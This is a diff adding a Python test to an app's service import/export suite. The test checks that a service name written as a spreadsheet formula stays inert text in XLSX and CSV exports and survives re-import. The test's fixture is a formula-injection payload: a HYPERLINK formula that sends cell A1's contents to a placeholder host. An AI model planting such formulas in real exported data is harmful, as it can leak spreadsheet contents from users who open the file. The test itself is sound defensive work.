@@ -215,3 +215,32 @@ def test_a_nul_in_a_cell_is_a_row_error_not_a_database_error(mall):
     report = importexport.services_import(site=mall.site, content=content, filename="x.csv")
     assert [(e.row, e.column) for e in report.errors] == [(2, "name")]
     assert snapshot() == before
+
+
+FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")'
+
+
+def test_a_service_named_like_a_formula_stays_text_in_both_exports(mall):
+    """An agency admin names a service like a spreadsheet formula; the mall admin who opens
+    the export in Excel must see that text, not run it; importing the file gives it back."""
+    Service.objects.filter(pk=mall.ktp.pk).update(name=FORMULA, fee_note="+62 biaya @loket")
+
+    sheet = load_workbook(io.BytesIO(importexport.services_export(site=mall.site,
+                                                                  format="xlsx"))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
+    assert len(cells) == 1 and cells[0].data_type == "s"  # a string cell, not a formula
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+    text = importexport.services_export(site=mall.site, format="csv").decode("utf-8-sig")
+    names = [r[importexport.COLUMNS.index("name")] for r in csv.reader(io.StringIO(text))]
+    assert "'" + FORMULA in names and FORMULA not in names
+    assert "'+62 biaya @loket" in text
+
+    for fmt, content in (("csv", text.encode()), ("xlsx", importexport.services_export(
+            site=mall.site, format="xlsx"))):
+        Service.objects.filter(pk=mall.ktp.pk).update(name="Diubah", fee_note="")
+        report = importexport.services_import(site=mall.site, content=content,
+                                              filename=f"katalog.{fmt}")
+        assert report.ok, report.as_text()
+        ktp = Service.objects.get(pk=mall.ktp.pk)
+        assert (ktp.name, ktp.fee_note) == (FORMULA, "+62 biaya @loket"), fmt
